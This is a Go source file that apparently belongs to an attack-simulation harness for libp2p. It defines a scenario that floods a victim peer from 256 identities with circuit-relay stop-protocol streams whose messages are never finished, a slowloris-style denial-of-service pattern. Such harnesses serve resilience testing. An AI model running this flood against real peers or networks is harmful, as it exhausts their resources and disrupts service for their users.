package attack

import (
	"context"
	"slices"
	"time"

	"github.com/libp2p/go-libp2p/p2p/protocol/circuitv2/proto"
)

// stops attacks with streams on which only a relay of the victim has something to say.
func stops() Scenario {
	return Scenario{
		Name: "stops", Daemons: true,
		About: "opens streams on which a relay would tell of a caller, from 256 identities, as many as it is let, and never ends what it says on them",
		Run:   onField(plain, flooded("stops", 256, announceNobody)),
	}
}

// announceNobody begins a message on each of many streams, of which the end never comes.
func announceNobody(ctx context.Context, _ int, s *stranger) {
	victim := s.field.victim()
	text := slices.Concat(framed([]byte("/multistream/1.0.0\n")), framed([]byte(proto.ProtoIDv2Stop+"\n")), framed(make([]byte, 4095))[:4000])
	for ctx.Err() == nil {
		if s.meet(ctx, victim) != nil {
			return
		}
		limited, cancel := context.WithTimeout(ctx, 5*time.Second)
		stream, err := s.Network().NewStream(limited, victim.id)
		if err == nil {
			_ = stream.SetWriteDeadline(time.Now().Add(5 * time.Second))
			_, _ = stream.Write(text)
		}
		cancel()
		if rest(ctx, refused) != nil {
			return
		}
	}
}
